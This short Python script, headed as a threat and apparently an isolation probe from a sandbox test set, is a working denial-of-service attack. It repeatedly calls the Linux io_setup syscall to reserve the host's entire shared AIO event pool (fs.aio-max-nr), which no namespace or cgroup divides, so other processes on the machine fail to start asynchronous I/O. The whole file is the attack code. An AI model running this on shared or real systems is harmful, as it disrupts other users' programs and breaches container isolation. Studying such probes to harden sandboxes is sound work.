# Threat: reserve the host's whole Linux AIO pool (fs.aio-max-nr, shared by every process on the machine and
# divided by no namespace or cgroup), so that other programs' io_setup fails while this run lives.
import ctypes
import os

IO_SETUP = {"x86_64": 206, "aarch64": 0}.get(os.uname().machine, 206)
libc = ctypes.CDLL(None, use_errno=True)
reserved = 0
for _ in range(1000):
    context = ctypes.c_ulong(0)
    if libc.syscall(IO_SETUP, 65536, ctypes.byref(context)) != 0:
        print(f"io_setup refused: errno {ctypes.get_errno()}", flush=True)
        break
    reserved += 65536
print(f"reserved {reserved} AIO events", flush=True)
